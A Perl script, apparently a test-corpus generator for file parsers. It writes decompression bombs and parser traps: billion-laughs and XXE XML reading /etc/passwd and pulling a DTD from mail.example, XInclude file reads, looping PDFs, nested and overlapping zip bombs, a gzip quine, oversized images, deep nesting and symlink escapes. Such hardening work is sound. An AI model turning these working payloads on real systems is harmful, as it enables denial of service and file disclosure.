#!/usr/bin/perl
# make_bombs.pl FOLDER: bombs and traps, small on disk, made up here.
use strict; use warnings;
use Compress::Zlib qw(crc32 memGzip);
my $dir = shift or die; mkdir $dir; chdir $dir or die;
sub put { my ($name, @b) = @_; open my $f, '>:raw', $name or die "$name: $!"; print $f @b; close $f }
sub deflate { my $d = Compress::Zlib::deflateInit(-WindowBits => $_[1] // -15, -Level => 9); my ($a) = $d->deflate($_[0]); my ($b) = $d->flush; $a . $b }
# members: name, bytes [, already deflated, stated size, crc]
sub zip { my ($body, $directory, $n) = ('', '', 0);
	for my $m (@_) { my ($name, $bytes, $packed, $size, $crc) = @$m; my $z = $packed // deflate($bytes); $size //= length $bytes; $crc //= crc32($bytes);
		my $h = pack 'vvvvvVVVvv', 20, 0, 8, 0, 0, $crc, length $z, $size, length $name, 0;
		$directory .= "PK\1\2" . pack('v', 20) . $h . pack('vvvVV', 0, 0, 0, 0, length $body) . $name; $body .= "PK\3\4$h$name$z"; $n++ }
	return $body . $directory . "PK\5\6" . pack('vvvvVVv', 0, 0, $n & 0xFFFF, $n & 0xFFFF, length $directory, length $body, 0) }
my $W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
sub rels { '<Relationships>' . join('', map { qq(<Relationship Id="$_->[0]" Type="http://x/$_->[1]" Target="$_->[2]"/>) } @_) . '</Relationships>' }
sub docx { zip(['_rels/.rels', rels(['r', 'officeDocument', 'word/document.xml'])], ['[Content_Types].xml', '<Types/>'], ['word/document.xml', $_[0]]) }
sub xlsx { my ($sheet, $strings) = @_; zip(['_rels/.rels', rels(['r', 'officeDocument', 'xl/workbook.xml'])], ['[Content_Types].xml', '<Types/>'], ['xl/_rels/workbook.xml.rels', rels(['s1', 'worksheet', 'worksheets/sheet1.xml'], ['s2', 'sharedStrings', 'sharedStrings.xml'])],
	['xl/workbook.xml', '<workbook><sheets><sheet name="s" r:id="s1"/></sheets></workbook>'], ['xl/sharedStrings.xml', $strings], ['xl/worksheets/sheet1.xml', $sheet]) }

# entities
my $lol = join '', map { "<!ENTITY l$_ \"" . ("&l" . ($_ - 1) . ';') x 10 . '">' } 1 .. 12;
put('laughs.xml', "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY l0 'ha'>$lol]><l><p>mirth &l12; end</p></l>");
put('quadratic.docx', docx("<!DOCTYPE w [<!ENTITY a '" . 'a' x 100000 . "'>]><w:document $W><w:body><w:p><w:r><w:t>before " . '&a;' x 100000 . " after</w:t></w:r></w:p></w:body></w:document>"));
put('external.xlsx', xlsx('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://mail.example/x.dtd">%p;]><worksheet><sheetData><row><c t="inlineStr"><is><t>cell &f;</t></is></c></row></sheetData></worksheet>', '<sst/>'));
put('include.svg', '<svg xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><image href="file:///etc/passwd"/><text>drawn</text></svg>');
# PDF
sub pdf { my ($body, $tail) = @_; "%PDF-1.5\n$body" . ($tail // "trailer<</Root 1 0 R>>\n") }
put('loop.pdf', pdf('1 0 obj<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9>>endobj 3 0 obj<</Type/Pages/Parent 2 0 R/Kids[2 0 R 4 0 R]/Count 9>>endobj 4 0 obj<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj 5 0 obj<</First 6 0 R/Last 6 0 R>>endobj 6 0 obj<</Title(round)/Next 6 0 R/First 6 0 R/Parent 6 0 R>>endobj '));
my $zeros = deflate(deflate("\0" x (64 << 20), 15), 15);
put('streams.pdf', pdf("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents[" . '4 0 R ' x 3 . "]>>endobj 4 0 obj<</Length " . length($zeros) . "/Filter[/FlateDecode/FlateDecode]>>stream\n$zeros\nendstream endobj 7 0 obj<</Type/ObjStm/N 1000000/First 10/Extends 7 0 R/Length " . length($zeros) . "/Filter[/FlateDecode/FlateDecode]>>stream\n$zeros\nendstream endobj "));
my $cff = deflate('not a font ' x 50, 15);
put('fonts.pdf', pdf("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj 4 0 obj<</Length 37>>stream\nBT /F 12 Tf 10 100 Td (legible) Tj ET\nendstream endobj 5 0 obj<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 6 0 R/ToUnicode 6 0 R/DescendantFonts[5 0 R]>>endobj 6 0 obj<</Type/CMap/UseCMap 6 0 R/Length " . length($cff) . "/Filter/FlateDecode>>stream\n$cff\nendstream endobj "));
# pictures that claim more than they hold
my $chunk = sub { my ($t, $b) = @_; pack('N', length $b) . $t . $b . pack('N', crc32($t . $b)) };
put('vast.png', "\x89PNG\r\n\x1a\n" . $chunk->('IHDR', pack 'NNCCCCC', 60000, 60000, 8, 6, 0, 0, 0) . $chunk->('IDAT', deflate("\0" x 1000, 15)) . $chunk->('IEND', ''));
put('vast.tif', "II*\0\x08\0\0\0\x09\0" . join('', map { pack 'vvVV', @$_ } [256, 4, 1, 200000], [257, 4, 1, 200000], [258, 3, 1, 8], [259, 3, 1, 1], [262, 3, 1, 1], [273, 4, 1, 122], [277, 3, 1, 4], [278, 4, 1, 200000], [279, 4, 1, 4]) . pack('V', 8) . 'abcd');
put('vast.gif', 'GIF89a' . pack('vvCCC', 65535, 65535, 0x80, 0, 0) . "\0\0\0\xff\xff\xff," . pack('vvvvC', 0, 0, 65535, 65535, 0) . "\2\3\x44\x02\x05\0;");
put('vast.bmp', 'BM' . pack('VVV', 58, 0, 54) . pack('VllvvVVllVV', 40, 0x7FFFFFFF, -0x7FFFFFFF, 1, 24, 0, 4, 0, 0, 0, 0) . "\0" x 4);
put('vast.webp', 'RIFF' . pack('V', 26) . 'WEBPVP8L' . pack('V', 13) . "\x2f\xff\xff\xff\x0f" . "\0" x 9);
# archives
my $z = 'bottom'; $z = zip(['in.zip', $z]) for 1 .. 40; put('deep.zip', $z);
my $kernel = deflate("\0" x (1 << 20)); my $crc = crc32("\0" x (1 << 20));
{ my $h = pack 'vvvvvVVVvv', 20, 0, 8, 0, 0, $crc, length $kernel, 1 << 20, 1, 0;
  my $d = join '', map { "PK\1\2" . pack('v', 20) . $h . pack('vvvVV', 0, 0, 0, 0, 0) . chr(97 + $_ % 26) } 0 .. 999;
  put('overlap.zip', "PK\3\4${h}a$kernel${d}PK\5\6" . pack('vvvvVVv', 0, 0, 1000, 1000, length $d, 31 + length $kernel, 0)); }
{ open my $f, '>:raw', '../million.zip' or die; my ($at, $d, $dn) = (0, '', 0); my $h = pack 'vvvvvVVVvv', 20, 0, 0, 0, 0, 0, 0, 0, 7, 0;
  open my $g, '>:raw', 'directory.tmp' or die;
  for my $i (0 .. 999999) { my $n = sprintf '%07d', $i; print $f "PK\3\4$h$n"; print $g "PK\1\2", pack('v', 20), $h, pack('vvvVV', 0, 0, 0, 0, $at), $n; $at += 37 }
  close $g; open $g, '<:raw', 'directory.tmp'; while (read $g, my $b, 1 << 20) { print $f $b } my $len = -s 'directory.tmp'; unlink 'directory.tmp';
  print $f "PK\6\6", pack('Q<vvVVQ<Q<Q<Q<', 44, 45, 45, 0, 0, 1000000, 1000000, $len, $at), "PK\6\7", pack('VQ<V', 0, $at + $len, 1), "PK\5\6", pack('vvvvVVv', 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0); close $f; }
my $tar = sub { my ($n, $size, $b) = @_; my $h = pack 'a512', pack 'a100a8a8a8a12a12a8a1a100a6a2', $n, '0000644', '0000000', '0000000', $size, '13600000000', ' ' x 8, '0', '', 'ustar', '00'; substr($h, 148, 8) = sprintf "%06o\0 ", unpack '%32C*', $h; $h . $b };
put('sizes.tar', $tar->('good.txt', '00000000005', pack 'a512', 'hello'), $tar->('negative', "\xFF" x 12, ''), $tar->('huge', "\x80" . "\x7F" . "\xFF" x 10, pack 'a512', 'x'));
put('members.gz', memGzip('') x 100000 . memGzip('last'));
sub xz { my ($props, $data) = @_; # a stream that is whole, whatever window it asks for
	my $v = sub { my $n = shift; my $o = ''; while ($n > 127) { $o .= chr($n & 127 | 128); $n >>= 7 } $o . chr $n };
	my $crc = sub { $_[0] . pack 'V', crc32($_[0]) };
	my $block = $crc->("\2\0\x21\1" . chr($props) . "\0\0\0"); my $lzma = "\1" . pack('n', length($data) - 1) . "$data\0"; my $size = length($block) + length $lzma;
	my $index = "\0\1" . $v->($size) . $v->(length $data); $index = $crc->($index . "\0" x (-length($index) % 4));
	my $back = pack('V', length($index) / 4 - 1) . "\0\0";
	"\xFD7zXZ\0" . $crc->("\0\0") . $block . $lzma . "\0" x (-length($lzma) % 4) . $index . pack('V', crc32($back)) . $back . 'YZ' }
put('window.xz', xz(40, "behind 4 GiB\n")); put('small.xz', xz(24, "good\n"));
put('window.zst', "\x28\xB5\x2F\xFD\0" . chr(21 << 3) . "\x29\0\0hello"); # RFC 8878: 2 GiB
# A gzip stream that unpacks to itself, after Russ Cox's "Zip Files All The Way
# Down": all pieces are 5 bytes long; Ln prints the next n of them (a stored
# block), R4 the last four again (a block of two matches of 10 bytes, 20 back).
sub quine { my ($name) = @_;
	my ($prefix, $r4) = ("\x1f\x8b\x08\x08\0\0\0\0\0\xff$name\0", pack('b40', '010' . ('0001000' . '01000' . '110') x 2 . '0' x 7));
	my $l = sub { "\0" . pack('vv', 5 * $_[0], 0xffff ^ 5 * $_[0]) };
	my ($l0, $l1, $l4) = map { $l->($_) } 0, 1, 4;
	my $all = sub { my $end = "$l0\3\0" . pack('VV', $_[0], 210);
		join '', $prefix, $l4, $prefix, $l4, $r4, $l1, $r4, $l1, $l1, $l4, $r4, $l1, $l1, $l4, $r4, $l4, $r4, $l4, $r4, $l4, $r4, $l4, $r4, $l0, $l0, $l4, $r4, $l0, $l0, $l4, $r4, $end, $r4, $end };
	# its own checksum stands in it: crc(c) = c is linear in the bits of c
	my $base = crc32($all->(0)); my @row;
	for my $bit (0 .. 31) { my $col = crc32($all->(1 << $bit)) ^ $base ^ 1 << $bit; $row[$_] |= ($col >> $_ & 1) << $bit for 0 .. 31 }
	my @have = map { $row[$_] | ($base >> $_ & 1) << 32 } 0 .. 31; my ($c, $at, @pivot) = (0, 0);
	for my $bit (0 .. 31) { my ($k) = grep { $have[$_] >> $bit & 1 } $at .. 31; next unless defined $k; @have[$at, $k] = @have[$k, $at];
		$_ != $at && $have[$_] >> $bit & 1 and $have[$_] ^= $have[$at] for 0 .. 31; $pivot[$at++] = $bit }
	return if grep { $have[$_] >> 32 } $at .. 31; # no such checksum: another name has one
	$c |= ($have[$_] >> 32) << $pivot[$_] for 0 .. $at - 1;
	$all->($c) }
for my $name (map { sprintf 'q%03d', $_ } 0 .. 99) { my $q = quine($name) or next; put('quine.gz', $q); last }
# mail
put('nested.eml', join('', map { "From: a\@mail.example\nSubject: n$_\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" } 1 .. 10000), "From: a\@mail.example\nSubject: last\n\nbody\n");
put('../parts.eml', "From: a\@mail.example\nSubject: parts\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n", map({ "--b\nContent-Type: text/plain; name=$_.txt\nContent-Disposition: attachment\n\n$_\n" } 1 .. 100000), "--b--\n");
put('boundary.eml', "From: a\@mail.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n", map { "--b\nContent-Type: multipart/mixed; boundary=b" . 'b' x ($_ % 50) . "\n\n" } 1 .. 5000);
# office
put('columns.xlsx', xlsx('<worksheet><sheetData><row r="1">' . join('', map { '<c r="' . $_ . '1"><v>1</v></c>' } qw(A XFD ZZZZ ZZZZZZ ZZZZZZZZZZZZZZ)) . '</row><row r="4294967295"><c r="A4294967295"><v>2</v></c></row></sheetData><mergeCells><mergeCell ref="A1:ZZZZ4294967295"/></mergeCells></worksheet>', '<sst/>'));
put('strings.xlsx', xlsx('<worksheet><sheetData>' . '<row>' . '<c t="s"><v>0</v></c>' x 200000 . '</row></sheetData></worksheet>', '<sst count="4294967295" uniqueCount="4294967295"><si><t>' . 'x' x 200000 . '</t></si></sst>'));
put('repeat.fods', '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:mimetype="application/vnd.oasis.opendocument.spreadsheet"><office:body><office:spreadsheet><table:table table:name="t"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>' . 'y' x 1000 . '</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document>');
put('tables.docx', docx("<w:document $W><w:body>" . '<w:tbl><w:tr><w:tc>' x 100000 . '<w:p><w:r><w:t>innermost</w:t></w:r></w:p>' . '</w:tc></w:tr></w:tbl>' x 100000 . '</w:body></w:document>'));
put('groups.rtf', '{\rtf1 start ' . '{' x 1000000 . 'deep' . '}' x 1000000 . ' end}');
sub ole { my ($next) = @_; # a compound file whose chains are as NEXT says
	my $e = sub { my ($n, $type, $l, $r, $c, $start, $size) = @_; my $u = join '', map { pack 'v', ord } split //, $n; pack 'a64vCCVVVa36VVV', $u, length($u) + 2, $type, 1, $l, $r, $c, '', $start, $size, 0 };
	pack('a8a16vvvvva6V10', "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", '', 0x3E, 3, 0xFFFE, 9, 6, '', 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 2, 0xFFFFFFFF, 0) . pack('V108', (0xFFFFFFFF) x 108) . pack('V128', 0xFFFFFFFD, 1, 2, 3, (@$next), (0xFFFFFFFF) x (124 - @$next))
	. $e->('Root Entry', 5, 1, 1, 1, 3, 0xFFFFFF) . $e->('WordDocument', 2, 1, 2, 1, 3, 0xFFFFFFFF) . $e->('1Table', 2, 1, 1, 0, 3, 0xFFFFFFFF) . $e->('x', 1, 0, 1, 3, 3, 0) . pack('V128', (2) x 128) . pack('v5', 0xA5EC, 0xC1, 0, 0, 0) . pack('v251', 0x0200, (0x7FFF) x 250) }
put('chains.doc', ole([4]));
# text
put('deep.json', '[' x 1000000 . '{"a":' x 1000000 . '"bottom"');
put('deep.html', '<html><body>' . '<div><table><tr><td><ul><li>' x 150000 . 'bottom');
put('attributes.html', '<html><p ' . join(' ', map { "a$_=\"" . 'v' x 50 . '"' } 1 .. 50000) . '>kept</p><!-- ' . '<!--' x 100000);
put('string.sql', "CREATE TABLE t (a text);\nINSERT INTO t VALUES (1,'good');\nINSERT INTO t VALUES (2,'" . 'endless ' x 3000000);
put('card.vcf', "BEGIN:VCARD\nFN:first\nNOTE:" . "x\n " x 1000000 . "\nEND:VCARD\n");
# an array that holds itself sixteen times over
put('self.plist', 'bplist00' . "\xAE" . "\0" x 14 . "\x08" . "\0" x 6 . "\1\1" . pack('Q>Q>Q>', 1, 0, 23));
put('wide.csv', join(',', 1 .. 400000) . "\n" . ',' x 400000 . "\n\"" . 'open ' x 1000000);
put('rows.dbf', pack('CCCCVvva16CCv', 3, 120, 1, 2, 0xFFFFFFFF, 65, 1, '', 0, 0x4D, 0) . pack('a11aVCCa14', 'N', 'C', 0, 0, 0, '') . "\r");
put('mail.tnef', pack('Vv', 0x223E9F78, 1) . pack('CVV', 2, 0x00069002, 14) . "\0" x 16 . pack('CVV', 2, 0x0006800F, 0xFFFFFFF0) . 'x');
mkdir 'links'; chdir 'links'; symlink '.', 'self'; symlink 'b', 'a'; symlink 'a', 'b'; symlink '../../../../../../etc/passwd', 'out'; symlink '/', 'root'; chdir '..';
put('zz.txt', "甲方：虚衡市公安局 office\@mail.example\n");
